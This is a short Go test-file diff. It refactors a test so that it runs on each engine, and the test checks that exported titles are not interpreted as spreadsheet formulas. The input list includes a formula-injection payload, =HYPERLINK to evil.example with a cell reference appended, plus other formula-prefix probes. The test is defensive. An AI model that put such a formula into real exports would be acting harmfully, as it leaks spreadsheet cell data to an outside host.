@@ -15,7 +15,9 @@ import (
 
 // TestTitlesAreNoFormulas opens the exports as a spreadsheet does, and imports
 // them again.
-func TestTitlesAreNoFormulas(t *testing.T) {
+func TestTitlesAreNoFormulas(t *testing.T) { onEachEngine(t, testTitlesAreNoFormulas) }
+
+func testTitlesAreNoFormulas(t *testing.T) {
 	titles := []string{
 		`=HYPERLINK("https://evil.example?"&A1)`, "+1-2", "-시작", "@sum", "＝1", "\tx", "'=quoted", "''=twice", "'no formula", "'", "plain = x",
 	}
